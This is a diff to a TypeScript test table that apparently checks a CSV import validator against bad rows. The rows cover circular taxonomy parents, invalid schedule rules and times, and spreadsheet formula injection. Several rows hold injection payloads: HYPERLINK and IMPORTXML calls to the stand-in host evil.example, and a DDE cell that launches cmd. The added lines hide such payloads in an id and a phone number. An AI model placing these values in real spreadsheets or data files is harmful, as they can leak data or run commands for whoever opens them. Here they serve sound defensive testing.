@@ -89,6 +89,8 @@ const rows: readonly (readonly [what: string, files: () => Files, reason: RowRea
   ["terms in a circle", () => first("taxonomy_terms.csv", { parent_id: ids.term }), "parentCircle", 2],
   ["a formula in a cell", () => first("services.csv", { name: '=HYPERLINK("http://evil.example","Circle")' }), "formula", 5],
   ["a command in a cell", () => first("services.csv", { alternate_name: "@SUM(1+1)*cmd|' /C calc'!A0" }), "formula", 5],
+  ["a call in an id", () => plus("services.csv", { id: '-1+HYPERLINK("http://evil.example")', organization_id: ids.organization, name: "Other" }), "formula", 1],
+  ["a call in a number", () => first("phones.csv", { number: '+1+IMPORTXML("http://evil.example/2135550123")' }), "formula", 1],
   ["a rule of repetition that is none", () => first("schedules.csv", { byday: "EVERYDAY" }), "ruleWrong", 1],
   ["a repetition each zero weeks", () => first("schedules.csv", { interval: "0" }), "ruleWrong", 1],
   ["a time of 25:00", () => first("schedules.csv", { opens_at: "25:00" }), "timeWrong", 1],
